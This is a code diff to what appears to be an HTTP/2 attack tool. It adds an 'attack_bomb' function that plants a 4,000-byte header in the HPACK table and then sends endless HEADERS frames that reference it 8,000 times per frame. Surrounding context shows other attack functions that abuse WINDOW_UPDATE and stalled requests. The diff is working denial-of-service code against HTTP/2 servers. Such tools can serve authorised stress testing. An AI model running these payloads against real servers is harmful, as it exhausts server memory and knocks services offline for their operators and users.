@@ -124,6 +124,12 @@ def attack_made_to_reset(client):
                    + frame(WINDOW_UPDATE, 0, 2 * n + 1, struct.pack("!I", 0x7fffffff)))
 
 
+def attack_bomb(client):
+    """A field of 4,000 bytes that HPACK's table keeps, and heads that name it 8,000 times with a byte each."""
+    kept = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
+    return endless(lambda n: frame(HEADERS, 5, 2 * n + 1, client.block + (b"\xbe" * 8000 if n else kept)))
+
+
 def hold(address, port, path, connections):
     """Requests whose answers no window lets through."""
     clients = []
